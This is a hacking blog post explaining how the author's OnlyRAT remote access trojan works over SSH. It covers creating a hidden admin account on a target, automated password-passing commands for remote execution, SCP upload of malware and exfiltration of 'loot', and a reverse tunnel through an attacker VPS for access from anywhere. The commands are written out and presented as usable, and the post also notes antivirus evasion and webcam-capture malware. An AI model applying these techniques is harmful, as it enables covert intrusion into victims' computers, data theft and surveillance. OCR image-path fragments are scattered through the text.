top of page
  • Writer's pictureC0SM0

SSH Network Attacks In OnlyRAT

// Automating Network Oriented Attacks in Malware...

Hey Hackers! Many of you may already be familiar with my tool OnlyRAT. If not, allow me to introduce it to you. OnlyRAT is a network oriented Remote Access Toolkit [RAT]. This special piece of malware allows us to remotely access a target system, upload files to that system, download files from that system, and to execute any arbitrary commands that we wish. Originally, OnlyRAT was supposed to be a simple, YouTube friendly, SSH RAT.

SSH, otherwise known as Secure Shell, is a network protocol that allows users to remotely access the command line on another system. It is often used in network administration to easily allow administrators to remotely conduct tasks on a computer.

But as I continued development, I got to learn how powerful SSH really is and a lot of the cool things you can do with it. OnlyRAT went from being a shitty proof of concept to a network oriented RAT. Meaning that all of our attacks are sent over as commandsover the network. So Anti-Virus [AV] can't detect it because there are no files to detect.


// OnlyRAT Basics:

Before we can dive on how powerful SSH truly is, we have to gain an understanding of the OnlyRAT malware. OnlyRAT can be installed on to a target computer in two ways. It can be installed directly from the GitHub page it is hosted on or you can install it from a Virtual Private Server [VPS].

A VPS is a server we can host directly on the internet, so we can access it from anywhere. It has a static IP Address that doesn't change, so we can always reach out to it or host services on it with ease.

OnlyRAT has scripts that will automate either of these installations, but there is a reason why both installation options are available [totally not a foreshadow towards something really cool we can do with SSH]. Once either of these scripts are executed, it will create a hidden admin [named "onlyrat"] on the users system and open port 22 [the default network port for SSH]. Once completed, the installation script will send a "<username>.rat" configuration file back to the attacker.

The configuration file holds all of the important information OnlyRAT needs to reach back to our target computer. Configuration files also allow the attacker to have a database of all of their compromised targets.

  1. Target IP Address

  2. OnlyRAT Admin Password3. Target Temp Directory

  4. Target Startup Directory

  5. VPS IP Address

  6. VPS Port

  7. Connection Type

Note: a VPS is NOT required for OnlyRAT to work. Lines 5 and 6 will be added depending on how OnlyRAT is installed.

// Basic SSH:

Lets say there is an SSH server on the network with an IP address of We can use basic syntax to connect to the computer. We specify the SSH command,followed by the username we want to log in as and the IP address of the server.After entering, we will be prompted to enter our password and we officially have remote access to a computer. If we want to automate the connection in some sort of malware, we can use a tool called SSHPass to parse in our password so we don't need to enter it into a prompt. All we need to do is add our SSH command to SSHPass with our password passed into a "-p" flag.

sshpass -p "DXael" ssh onlyrat@

Now we can immediately SSH into a server with no password prompt needed. So we officially automated remote connections into computers. This is essentially how OnlyRAT's "orconsole" feature works.

// Remote Code Execution:

Yeah you heard me right, we can execute code over SSH. No, I don't mean remotely connecting to a computer and then typing in code to execute. I am talking about a one liner that allows us to parse in commands into our SSH connection. We simply have to put the respective command line code in quotes after our SSH connection. Let's try listing the contents of a directory [assuming our target is a Windows computer].

# normal ssh
ssh onlyrat@ 'dir'# password parsing
sshpass -p "DXael" ssh onlyrat@ 'dir'

Running either of these commands will return the contents of the directory we remote into. Now in place of "dir", we can place any Windows command line we want. If we want to run PowerShell, we can just put "powershell /c" followed by the whatever PowerShell code you wish to run. We can also run any executable files we want like calculator, notepad, or any malware we may have on the system. But note we will be running them as the OnlyRAT user, and not as our target. But there is a work around I will discuss later.

// File Upload and Download:

While SSH is designed for remote connections, another protocol built off of SSH allows us to remotely upload and download files to and from a target computer. This protocol is called Secure Copy, but often referred to as "SCP". To upload a file with SCP, we execute the SCP program and pass in the file we want to upload, the user@host to save it to, and use a colon ":" to specify the path to save the file on said host.

# normal scp
scp file.txt onlyrat@\Users\Jerry\Desktop# recursive scp for directory uploads
scp -r folder onlyrat@\Users\Jerry\Desktop

Great! we can upload files to a target, but its still prompting us to enter our OnlyRAT user password. Well if SCP is built off of SSH, can we use SSHPass? Yes, yes you can!

sshpass -p "DXael" scp file.txt onlyrat@\Users\Jerry\Desktop

Now we can automate file uploads! So we can upload malware, malicious documents, payloads, fake shortcuts on their desktop, whatever it may be. To conduct a remote download with SCP, we execute the SCP program and pass in the user@host, the specified path on that host [again using that colon ":"], and where you wish to save it on your computer. In this example, we will use the period "." to represent our current directory.

# normal scp
scp onlyrat@\Users\Jerry\Desktop\file.txt .

# password parsing
sshpass -p "DXael" scp onlyrat@\Users\Jerry\Desktop\file.txt .

Now have automated our ability to download files off of our target computer. This great for any documents, photos, or loot we wish to exfiltrate off of a target computer.

// Port Forwarding:

Up until this point, we have only been able to access our target if we are on the same network. If an attacker were to switch to another network, theycouldn't reach back to "" because that IP address belongs to a different machine on the new network. Typically, in order to port forward we need to change configurations in a router to allow that port to be forwarded out of the network. Our malware doesn't have access to the router nor does it have the capabilities to edit the routers configurations and forward ports. But, SSH allows us to forward ports outside of the network. Here is a little diagram showcasing the network layout.

The section on the top showcases what we are already familiar with; a local SSH connection between two computers. This local connection would have been set up through the "From GitHub" option of installing. The second section on the bottom showcases the SSH port forwarding capabilities. The VPS installation of OnlyRAT does a few extra steps then the default "From GitHub" installation. The attacker can use ...

onlyrat -s

# or

onlyrat --setup

... to setup their attacker machine and VPS [more instructions here]. But I will show you how it works in more depth. On our VPS, we edit the "/etc/ssh/sshd_config" file and change the following to be true.

AllowTcpForwarding yesGatewayPorts yes

This will allow us to forward traffic through our VPS. After we restart the SSH service, we can create an SSH key on our attacker machine for our VPS server.

A SSH Key is a file that authorizes our SSH connection to a specific server. That way we can connect without a password or have a more secure method of connecting by placing a different password on the key.

To generate the key, we can use the "ssh-keygen" program. This program will generate a SSH key we can usefor our VPS. We can save it to the name "key" and give it no password. The reason the key has no password is because Windows doesn't have SSHPass, so we can use the key to authorize and automate the connection between the target and the VPS. With our new key, we canset its proper permissions and copy the id.

chmod 600 key
ssh-copy-id -i key user@X.X.X.X
ssh user@X.X.X.X -i key # test the key
  • user - username of user on VPS

  • X.X.X.X - domain or IP Address of VPS

Now we can use our VPS to host a web server to make our key accessible across the internet to our target. The target will need this key to connect to our VPS and route traffic from its SSH port to a port on the VPS. Make sure you give the key file the "read" permission to avoid 403 errors.

scp -r key user@X.X.X.X:/var/www/html
ssh user@X.X.X.X
cd /var/www/html
chmod +r key
sudo service apache2 start
  • apache2 - a web hosting service

Now all that needs to happen is for our target machine to make a web request to download the key, andexecute the following command.

ssh -R 9494:localhost:22 user@X.X.X.X -i key

The SSH command above uses the "-R" argument to route traffic to a specified remote port on the VPS. In this case, we are using port "9494" on the VPS. From there, it uses the colon to specify what service on what host to route to that remote port. In this example, we route our localhost SSH service on port 22. We carry on with the rest of the SSH connection but add a "-i" to add our key. This is so we can automate our SSH connection with no password needed.

// Connecting To The Forwarded Port:

To connect to our target machine on a port forwarded VPS, all we need to do is connect to our VPS on that port with the target as our specified user. We can specify ports with the "-p" argument.

ssh onlyrat@X.X.X.X -p 9494

Just like that, we can access our target machine from anywhere on the internet! Of course, that was a lot of configurations we had to do, so OnlyRAT will automate most of this process for us.// OnlyRAT Flaws:

OnlyRAT is a really clever malware and a great general proof of concept. It dives into the SSH protocol and exploits its extraneous features to its advantage. But in a scenario where SSH is blocked on a network, OnlyRAT would not be the ideal malware to use. We could attempt switching the port that SSH is running on, but it would still vary on the firewall we are dealing with.

Since Windows doesn't have SSHPass, we need to use a SSH Key to automate our connections from our target toour VPS. The main problem with this is that there is now an SSH Key that grants access to our VPS simply sitting on our target computer.

When the target routes through one of the ports on our VPS, the port will show up as busy because it has the targets SSH traffic being routed through it. This is to be expected, but if our target were to restart there computer OnlyRAT would be unable to reconnect to the VPS. This is due to the port still being marked as busy. The fix for this should be a pretty simple script we can create on our VPS to clear the port if it is found to be inactive.

// Malware Execution:

We aren't the target user, we are a hidden admin. So if we connected to a target computer using the OnlyRAT Console [orconsole], we would connect as the onlyrat admin user, and not the target user. This is because we don't have the target password to login as. In the orconsole, if we ran a "notepad.exe", the notepad process wouldn't pop up on the targets screen. This is due to how we are executing notepad on a session under the onlyrat admin. However, the notepad still executed, whether we see it or not. This means we can still run system level malware and have it execute system wide. For example, if I ran a malware that captures photos from the webcam, even if we ran it as our onlyrat user it would still work.

Thanks for reading, and as always,

Happy Hacking!

// Socials:

© 2022 by Cosmodium CyberSecurity LLC

2,404 views2 comments

Recent Posts

See All

2 Yorum

A tutorial on how to set up the VPS side would be sweet!17 Nis 2023
Şu kişiye cevap veriliyor:

Yes!! tutorial will be coming soon. There's just a stupid bug that I have yet to make thetime to fix 😭

bottom of page